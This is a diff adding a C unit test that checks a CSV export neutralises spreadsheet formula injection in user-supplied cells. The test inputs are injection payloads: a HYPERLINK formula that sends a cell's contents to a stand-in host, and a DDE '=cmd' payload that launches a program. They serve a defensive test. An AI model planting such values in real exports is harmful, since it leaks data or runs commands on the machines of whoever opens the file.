@@ -385,6 +385,41 @@ static void csv_tables(void **state)
     svcr_insight_free(insight);
 }
 
+/* Cells from user text that a spreadsheet would read as a formula (=, +, -, @, tab, CR first)
+ * are written with a leading apostrophe, and quoted: =HYPERLINK(...) is shown, never run. The
+ * numeric columns keep their numbers. */
+static void csv_neutralises_formulas(void **state)
+{
+    (void)state;
+    static const char *const causes[] = {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1",
+                                         "-3", "@SUM(A1:A9)", "\tTAB", "\rCR", "plain -3"};
+    static const char *const written[] = {"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",",
+                                          "\"'+1\",", "\"'-3\",", "\"'@SUM(A1:A9)\",",
+                                          "\"'\tTAB\",", "\"'\rCR\",", "\r\nplain -3,"};
+    svcr_insight *insight;
+    assert_int_equal(svcr_insight_new(NULL, &insight), SVCR_OK);
+    for (size_t i = 0; i < sizeof causes / sizeof causes[0]; i++) {
+        svcr_insight_record r;
+        svcr_insight_record_init(&r, sizeof r);
+        r.root_cause = causes[i];
+        for (size_t n = 0; n <= i; n++) /* distinct counts: a known order */
+            assert_int_equal(svcr_insight_add(insight, &r), SVCR_OK);
+    }
+    assert_int_equal(svcr_insight_set_owner(insight, "-3", "=cmd|' /C calc'!A0"), SVCR_OK);
+    char *csv;
+    assert_int_equal(svcr_insight_pareto_csv(insight, &csv), SVCR_OK);
+    for (size_t i = 0; i < sizeof written / sizeof written[0]; i++)
+        if (strstr(csv, written[i]) == NULL)
+            fail_msg("%s not in\n%s", written[i], csv);
+    assert_non_null(strstr(csv, "\"'-3\",3,0.107142857142857,0.892857142857143,true,\"'=cmd|' /C calc'!A0\"\r\n"));
+    svcr_free(csv);
+    assert_int_equal(svcr_insight_causes_csv(insight, &csv), SVCR_OK);
+    assert_non_null(strstr(csv, "\"'-3\",3,0,0,,0,0,,\"'=cmd|' /C calc'!A0\"\r\n"));
+    assert_non_null(strstr(csv, "\"'@SUM(A1:A9)\",4,"));
+    svcr_free(csv);
+    svcr_insight_free(insight);
+}
+
 static void bad_records_change_nothing(void **state)
 {
     (void)state;
@@ -547,6 +582,7 @@ int main(void)
         cmocka_unit_test(expected_retention),
         cmocka_unit_test(json_has_every_section),
         cmocka_unit_test(csv_tables),
+        cmocka_unit_test(csv_neutralises_formulas),
         cmocka_unit_test(bad_records_change_nothing),
         cmocka_unit_test(options_are_checked),
         cmocka_unit_test(insight_survives_every_allocation_failure),
